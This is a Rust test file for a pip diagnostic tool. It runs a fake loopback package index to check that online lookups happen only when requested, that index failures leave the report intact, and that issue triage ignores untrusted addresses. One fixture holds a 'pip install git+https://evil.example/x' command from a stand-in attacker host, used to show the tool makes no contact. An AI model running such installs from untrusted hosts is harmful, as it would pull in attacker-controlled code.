//! What `--online` adds to a report, and that without it nobody is asked. The index is a real
//! server on loopback, which answers in good and in bad ways.

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;
use std::time::Duration;

use serde_json::Value;

use crate::program::run;
use crate::support::{Machine, modern_python, skip};

/// Output of a build from source, of a package that nobody named.
const BUILT: &str = "Collecting demo==1.0\n  Downloading demo-1.0.tar.gz (5 kB)\n  Building wheel for demo \
                     (setup.py) ... error\n  fatal error: nobody knows this one\n  \
                     ERROR: Failed building wheel for demo\n";

const PAGE: &str = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n\
                    <a href='demo-1.0.tar.gz'>s</a> <a href='demo-1.0-cp27-cp27m-win32.whl'>w</a>";

/// An index that gives every request this answer and then waits; and how many asked.
fn index(answer: &'static str, wait: Duration) -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}/simple", listener.local_addr().unwrap());
    let asked = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&asked);
    thread::spawn(move || {
        for stream in listener.incoming().take(20) {
            count.fetch_add(1, Ordering::SeqCst);
            let mut stream: TcpStream = stream.unwrap();
            thread::spawn(move || {
                let mut lines = BufReader::new(stream.try_clone().unwrap());
                let mut line = String::new();
                while lines.read_line(&mut line).is_ok_and(|count| count > 2) {}
                // The client may have hung up: that is its right.
                let _ = stream.write_all(answer.as_bytes());
                thread::sleep(wait);
            });
        }
    });
    (address, asked)
}

/// The report on the failed build, as JSON; the exit code says that it was printed.
fn report(python: &Path, index: &str, options: &[&str]) -> Value {
    let machine = Machine::new();
    let log = machine.write("build.log", BUILT);
    let mut command = machine.pip_doctor();
    command.env("PIP_INDEX_URL", index).env("PIP_CONFIG_FILE", "/dev/null");
    command.arg("--log").arg(log).arg("--python").arg(python);
    let done = run(command.args(["--format", "json"]).args(options), "");
    assert!(done.code < 2, "{done:?}");
    serde_json::from_str(&done.stdout).unwrap()
}

#[test]
fn a_build_from_source_is_explained_by_the_files_of_its_release_where_the_network_may_be_used() {
    let Some(python) = modern_python() else { return skip("there is no Python with venv") };
    let (address, asked) = index(PAGE, Duration::ZERO);
    let without = report(python, &address, &[]);
    assert_eq!((without["facts"]["wheels"].as_array().unwrap().len(), asked.load(Ordering::SeqCst)), (0, 0));
    let with = report(python, &address, &["--online"]);
    let verdict = &with["facts"]["wheels"][0];
    assert_eq!(verdict["requirement"], "demo==1.0");
    assert_eq!(verdict["chosen"], "demo-1.0.tar.gz");
    let refused =
        verdict["candidates"].as_array().unwrap().iter().find(|file| file["fits"] == false).unwrap();
    assert_eq!(refused["filename"], "demo-1.0-cp27-cp27m-win32.whl");
    assert!(asked.load(Ordering::SeqCst) > 0);
}

#[test]
fn an_index_that_fails_costs_the_verdict_and_never_the_report() {
    let Some(python) = modern_python() else { return skip("there is no Python with venv") };
    let forbidden = "HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
    for (answer, wait) in [
        (forbidden, Duration::ZERO),
        ("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 7\r\n\r\ngarbage", Duration::ZERO),
        ("", Duration::from_secs(30)),
    ] {
        let (address, _) = index(answer, wait);
        let report = report(python, &address, &["--online", "--timeout", "6"]);
        assert_eq!(report["facts"]["wheels"].as_array().unwrap().len(), 0, "{answer}");
        let gaps = report["gaps"].as_array().unwrap();
        assert!(gaps.iter().any(|gap| gap["fact"] == "wheel.fits"), "{answer}: {gaps:?}");
    }
}

#[test]
fn triage_asks_for_the_machine_that_the_issue_states() {
    let Some(python) = modern_python() else { return skip("there is no Python with venv") };
    let (address, asked) = index(PAGE, Duration::ZERO);
    let triage = |body: &str, options: &[&str]| -> Value {
        let machine = Machine::new();
        let file = machine.write("issue.md", body);
        let mut command = machine.pip_doctor();
        command.env("PIP_INDEX_URL", &address).env("PIP_CONFIG_FILE", "/dev/null");
        let done = run(command.arg("triage").arg(file).args(["--format", "json"]).args(options), "");
        assert!(done.code < 2, "{done:?}");
        serde_json::from_str(&done.stdout).unwrap()
    };
    let path = python.to_str().unwrap();
    let python_says =
        "Python 2.7.18 (v2.7.18:8d21aebc37, Apr 20 2020) [MSC v.1500 32 bit (Intel)] on win32\n";
    let body = format!("```\n{python_says}{BUILT}\n```\n");
    let without = triage(&body, &[]);
    assert_eq!((without["facts"]["wheels"].as_array().unwrap().len(), asked.load(Ordering::SeqCst)), (0, 0));
    // What the index says of the release is known; of a machine that nobody described no file is judged.
    let vague = triage(&format!("```\n{BUILT}\n```\n"), &["--online", "--python", path]);
    assert_eq!(vague["facts"]["index"]["answer"], "files");
    assert_eq!(vague["facts"]["wheels"], serde_json::json!([]));
    let stated = triage(&body, &["--online", "--python", path]);
    let verdict = &stated["facts"]["wheels"][0];
    assert_eq!(verdict["requirement"], "demo==1.0");
    assert_eq!(verdict["chosen"], "demo-1.0-cp27-cp27m-win32.whl");
    // Nothing of an address that a stranger wrote is asked.
    let before = asked.load(Ordering::SeqCst);
    let foreign = triage(
        "```\npip install git+https://evil.example/x\nERROR: failed\n```\n",
        &["--online", "--python", path],
    );
    assert_eq!(asked.load(Ordering::SeqCst), before);
    assert!(foreign["gaps"].to_string().contains("does not say which package"), "{}", foreign["gaps"]);
}
